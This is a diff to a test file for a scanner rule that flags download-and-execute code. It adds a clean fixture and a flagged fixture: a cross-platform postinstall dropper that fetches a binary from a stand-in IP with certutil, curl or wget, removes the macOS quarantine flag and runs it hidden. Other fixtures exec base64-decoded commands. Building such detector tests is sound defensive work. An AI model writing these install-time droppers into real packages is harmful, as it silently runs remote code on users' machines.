@@ -4,6 +4,11 @@ import rule from './curl-pipe-shell-in-code.js';
 ruleTest(rule, {
   clean: [
     {
+      name: 'prebuilt binary fetched and unpacked at install (no run), a JSON fetched for jq',
+      file: 'scripts/install.js',
+      code: "const { execSync } = require('child_process');\nexecSync('curl -fsSL -o vips.tgz https://github.com/x/releases/download/v1/vips.tgz && tar xzf vips.tgz -C vendor');\nexecSync('curl -s -o out.json https://api.example.org/x && jq .name out.json');\n",
+    },
+    {
       name: 'a base64 option that decodes to a plain command (no download), run after decoding',
       file: 'config/plugin.js',
       code: `const { exec } = require('child_process');\nclass P {\n  constructor(o) { this.options = { probe: 'Z2l0IGRlc2NyaWJlIC0tdGFncyAtLWFsd2F5cw==', ...o }; }\n  run() { exec(Buffer.from(this.options.probe, 'base64').toString()); }\n}\nmodule.exports = P;\n`,
@@ -35,6 +40,16 @@ ruleTest(rule, {
     },
   ],
   flagged: [
+    {
+      name: 'postinstall per OS: certutil -urlcache then start, curl -o a dot-file then chmod +x and nohup, wget -qO then chmod',
+      file: 'scripts/postinstall.js',
+      code: "const { exec } = require('child_process');\nconst HOST = 'http://198.51.100.52';\nif (process.platform === 'win32') exec(`certutil -urlcache -split -f ${HOST}/w.exe \"%TEMP%\\\\h.exe\" >nul && start \"\" /b \"%TEMP%\\\\h.exe\"`);\nelse if (process.platform === 'darwin') exec(`curl -fsSL ${HOST}/m -o /tmp/.h && xattr -d com.apple.quarantine /tmp/.h; chmod +x /tmp/.h && nohup /tmp/.h >/dev/null 2>&1 &`);\nelse exec(`wget -qO /tmp/.h ${HOST}/l && chmod 755 /tmp/.h && /tmp/.h &`);\n",
+      findings: [
+        { line: 3, severity: 'high', message: /Download saved to a file and started/ },
+        { line: 4, severity: 'high', message: /Download saved to a file and started/ },
+        { line: 5, severity: 'high', message: /Download saved to a file and started/ },
+      ],
+    },
     {
       name: 'webpack plugin: a base64 option decoded in another method and exec-ed (curl | sh)',
       file: 'config/BuildInfoPlugin.js',
